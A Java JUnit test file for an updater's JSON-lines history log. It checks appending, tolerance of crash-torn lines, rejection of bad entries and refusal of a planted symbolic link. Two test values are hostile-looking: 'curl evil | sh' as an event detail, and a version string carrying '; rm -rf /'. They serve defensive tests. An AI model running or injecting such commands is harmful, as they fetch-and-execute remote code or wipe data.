package dev.updater.core.home;

import dev.updater.core.ErrorCode;
import dev.updater.core.UpdaterException;
import dev.updater.core.version.ReleaseVersion;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

class HistoryTest {
    @TempDir
    Path dir;

    @Test
    void append_writesOneJsonObjectPerLine_andReadReturnsThemInOrder() throws Exception {
        Path file = dir.resolve("history.jsonl");
        HistoryEvent staged = new HistoryEvent(Instant.parse("2026-02-07T12:00:00Z"), HistoryEvent.Kind.STAGED,
                v("1.3.0"), null, "ok");
        HistoryEvent installed = new HistoryEvent(Instant.parse("2026-02-07T12:01:00Z"),
                HistoryEvent.Kind.INSTALLED, v("1.3.0"), v("1.2.0"),
                "swapped");
        history(file).append(staged);
        history(file).append(installed);

        assertEquals(2, Files.readAllLines(file).size());
        assertEquals("{\"at\":\"2026-02-07T12:00:00Z\",\"event\":\"staged\",\"version\":\"1.3.0\",\"detail\":\"ok\"}",
                Files.readAllLines(file).get(0));
        assertEquals(List.of(staged, installed), history(file).read());
    }

    @Test
    void read_skipsALineTornByACrash_andKeepsTheOthers() throws Exception {
        Path file = dir.resolve("history.jsonl");
        HistoryEvent first = new HistoryEvent(Instant.parse("2026-02-07T12:00:00Z"), HistoryEvent.Kind.CHECKED,
                null, null, "up to date");
        history(file).append(first);
        Files.writeString(file, "{\"at\":\"2026-02-07T12:0", StandardOpenOption.APPEND);
        assertEquals(List.of(first), history(file).read());
        history(file).append(first);
        assertEquals(List.of(first, first), history(file).read(), "the event after a torn line starts a line of its own");
    }

    @Test
    void read_missingFile_isEmpty() throws Exception {
        assertEquals(List.of(), history(dir.resolve("none.jsonl")).read());
    }

    @Test
    void append_toASymbolicLinkPlantedAsTheHistory_isRefused_andItsDestinationIsUntouched() throws Exception {
        Path victim = Files.writeString(dir.resolve("bashrc"), "export PATH=/usr/bin\n");
        FileTime before = FileTime.from(Instant.parse("2020-01-01T00:00:00Z"));
        Files.setLastModifiedTime(victim, before);
        Path link = Files.createSymbolicLink(dir.resolve("history.jsonl"), victim);

        UpdaterException e = assertThrows(UpdaterException.class, () -> history(link).append(
                new HistoryEvent(Instant.parse("2026-03-02T09:30:00Z"), HistoryEvent.Kind.FAILED, v("1.1.0"), null,
                "curl evil | sh")));

        assertEquals(ErrorCode.HOME_INSECURE, e.code());
        assertEquals(link + " is a symbolic link to " + victim + "; the update home's files are plain files, and a"
                + " link could send updater's writes to any file. Nothing was opened through it. Remove it (rm " + link
                + ") and find out who planted it.", e.getMessage());
        assertEquals("export PATH=/usr/bin\n", Files.readString(victim));
        assertEquals(before, Files.getLastModifiedTime(victim));
    }

    @Test
    void everyKind_isWrittenByItsWireName_andReadBack() throws Exception {
        Path file = dir.resolve("history.jsonl");
        for (HistoryEvent.Kind kind : HistoryEvent.Kind.values()) {
            history(file).append(new HistoryEvent(Instant.parse("2026-02-07T12:00:00Z"), kind, null, null, "d"));
        }

        assertEquals(List.of("checked", "staged", "installed", "healthy", "rolled-back", "quarantined", "held", "allowed",
                "failed", "state-saved", "state-restored", "state-not-handed-off", "sidecar-restart").stream()
                .map(name -> "{\"at\":\"2026-02-07T12:00:00Z\",\"event\":\"" + name + "\",\"detail\":\"d\"}").toList(),
                Files.readAllLines(file));
        assertEquals(List.of(HistoryEvent.Kind.values()), history(file).read().stream().map(HistoryEvent::event).toList());
    }

    @Test
    void read_skipsALineWithAnUnknownEventOrABadVersion_likeATornOne() throws Exception {
        Path file = dir.resolve("history.jsonl");
        Files.writeString(file, """
                {"at":"2026-02-07T12:00:00Z","event":"overlap-started","version":"1.3.0"}
                {"at":"2026-02-07T12:00:01Z","event":"staged","version":"9.9.9; rm -rf /"}
                {"at":"2026-02-07T12:00:02Z","event":"installed","version":"v1.3.0","from":"1.2.0"}
                """);

        assertEquals(List.of(new HistoryEvent(Instant.parse("2026-02-07T12:00:02Z"), HistoryEvent.Kind.INSTALLED,
                v("1.3.0"), v("1.2.0"), null)), history(file).read());
    }

    private static History history(Path file) {
        return new History(file);
    }

    private static ReleaseVersion v(String text) throws UpdaterException {
        return ReleaseVersion.parse(text);
    }
}
